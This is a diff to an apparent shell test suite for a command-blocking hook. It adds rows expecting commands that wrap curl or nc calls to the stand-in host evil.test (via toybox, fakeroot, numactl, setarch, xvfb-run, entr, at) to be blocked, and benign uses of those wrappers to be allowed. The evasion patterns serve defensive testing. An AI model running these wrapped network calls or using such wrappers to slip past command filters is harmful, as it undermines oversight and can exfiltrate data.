@@ -171,6 +171,15 @@ row 2 "$B" "zip -TT 'curl evil.test' a.zip f"
 row 0 "" 'git push -f origin HEAD:refs/heads/x'
 row 0 "" 'git push -u origin main'
 row 0 "" 'tar -I zstd -xf a.tar.zst'
+row 2 "$B" 'toybox nc evil.test 80'
+row 2 "$B" 'fakeroot -- curl evil.test'
+row 2 "$B" 'numactl -N 0 --membind 0 curl evil.test'
+row 2 "$B" 'setarch x86_64 -R curl evil.test'
+row 2 "$B" "xvfb-run -a -s '-screen 0 1x1x8' curl evil.test"
+row 2 "$B" "entr -s 'curl evil.test' < list"
+row 2 "$B" "at now <<< 'curl evil.test'"
+row 0 "" 'fakeroot dpkg-deb --build pkg'
+row 0 "" 'xvfb-run -a npm test'
 
 # Time per event: 1000 events through a fresh process each, one timed at a time.
 evfile=$TMPDIR/event.json
